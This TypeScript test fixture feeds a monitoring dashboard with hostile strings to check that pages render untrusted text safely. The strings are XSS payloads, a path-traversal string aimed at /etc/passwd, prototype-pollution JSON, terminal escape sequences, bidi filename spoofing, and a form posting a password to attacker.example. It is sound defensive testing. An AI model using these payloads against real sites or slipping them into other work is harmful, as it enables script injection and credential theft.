/** Text that somebody may have put where pages show it: each would do harm, or break a page, if it were taken for more than text. */
import { timestamp } from "#src/lib/clock.ts";
import type { Heartbeat } from "#src/protocol/heartbeat.ts";
import type { LogEntry } from "#src/protocol/log.ts";
import { crash, heartbeat } from "#test/hub/kit/hub.ts";

/** Runs when markup is taken for markup: it sets `window.orionPwned`. */
const pwn = "window.orionPwned=1";

/** Without white space, as names of sources have to be; what is behind the mark of direction would be read backwards. */
export const hostileNames = [
  `<img/src=x/onerror=${pwn}>`,
  `"><svg/onload=${pwn}>`,
  `javascript:${pwn}`,
  "\u202Etxt.exe\u2066",
  "__proto__",
  "../../../etc/passwd?x=1&y=2#z%00",
  "ﷺ﷽".repeat(8),
  "z̴̧̡̛̫̹̩̖̩̳̦".repeat(4),
  "W".repeat(128),
] as const;

export const hostileTexts = [
  `<script>${pwn}</script>`,
  `<img src=x onerror="${pwn}">`,
  `</style><svg onload="${pwn}">`,
  `<a href="javascript:${pwn}">click</a> <iframe srcdoc="<script>parent.${pwn}</script>"></iframe>`,
  `<form action="https://attacker.example"><input name=password autofocus></form><base href="https://attacker.example/">`,
  "\u001b[31mred \u001b[1mbold\u001b[0m \u001b[2J\u001b[H\u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007 \u001b[9999C\u001b]0;title\u0007",
  "\u001b[38;2;300;-1;999mcolours that are none \u001b[38;5;99999mand \u001b[",
  "\u202Ereversed by a mark of direction\u2066\u2067 and not ended",
  "\u0000nul \u0007bell \u0008back \u007Fdelete \u0085next \u2028line \uFEFFmark \uD800lone",
  "first line\r\nsecond line\rthird line\n\n\n",
  JSON.stringify({ message: `<img src=x onerror="${pwn}">`, constructor: { prototype: 1 }, deep: nested(60) }),
  '{"__proto__":{"orionPwned":1},"a":[[[[[[[[[[[[',
  `https://user:hunter2@attacker.example/?q=<script>${pwn}</script>`,
  "a̶͚̯͉ͅ".repeat(200),
  "😀".repeat(500),
] as const;

/** A line as long as they may be, in one word. */
export const longLine = `begin ${"x".repeat(1024 * 1024 - 20)} end`;

function nested(depth: number): unknown {
  return depth === 0 ? `<b>${pwn}</b>` : { [`<i>${depth}</i>`]: nested(depth - 1) };
}

/** A server that reports nothing but such names. */
export function hostileBeat(): Heartbeat {
  const whole = heartbeat();
  const [script] = whole.scripts;
  const at = timestamp(Date.now());
  if (script === undefined) throw new Error("the kit's heartbeat has no script");
  return {
    ...whole,
    at,
    hostname: hostileNames[0],
    agent: { version: `<b>${pwn}</b>`, startedAt: at },
    system: { ...whole.system, disk: { path: `/<img src=x onerror=${pwn}>`, total: 1e12, used: 1e12, usage: 100 } },
    scripts: hostileNames.map((name, i) => ({
      ...script,
      name,
      state: i % 2 === 0 ? "crashed" : "running",
      lastExit: { code: null, signal: `<i>${pwn}</i>`, observed: true, oom: true, at },
      problem: hostileTexts[i] ?? null,
    })),
    docker: { available: false, error: hostileTexts[1] },
    containers: hostileNames.map((name, i) => ({
      id: `<u>${i}</u>`,
      name,
      image: hostileTexts[i] ?? "",
      state: `<s>${pwn}</s>`,
      health: i % 2 === 0 ? "unhealthy" : `<b>${pwn}</b>`,
      restartCount: 1e15,
      startedAt: at,
      cpu: 1e9,
      memory: { usage: 1e18, limit: 1 },
      source: name,
    })),
  };
}

/** Its lines: each text from a source of each kind of name, errors among them, and the long one. */
export function hostileLines(): readonly LogEntry[] {
  const at = timestamp(Date.now());
  const texts = [...hostileTexts, longLine];
  const plain = texts.map((message, i): LogEntry => {
    const source = hostileNames[i % hostileNames.length] ?? "x";
    const fields = { container: source, containerId: `<u>${i}</u>`, [`<b>${i}</b>`]: message.slice(0, 1000) };
    return { seq: i + 1, at, source, stream: i % 2 === 0 ? "container" : "stderr", level: "error", message, fields };
  });
  const thrown = hostileTexts.flatMap((text) => [
    "Traceback (most recent call last):",
    `  File "<img src=x onerror=${pwn}>.py", line 1, in <b>${pwn}</b>`,
    `    ${text}`,
    `ValueError: ${text}`,
  ]);
  const traced = thrown.map((message, i): LogEntry => {
    return { seq: texts.length + 1 + i, at, source: hostileNames[0], stream: "stderr", level: "error", message };
  });
  return [...plain, ...traced];
}

/** And what happened to it. */
export function hostileEvents() {
  const at = timestamp(Date.now());
  return hostileNames.map((script, i) => ({
    ...crash({ at, script, tail: [...hostileTexts], reason: hostileTexts[i] ?? "", signal: `<b>${pwn}</b>` }),
    seq: 10_000 + i,
  }));
}
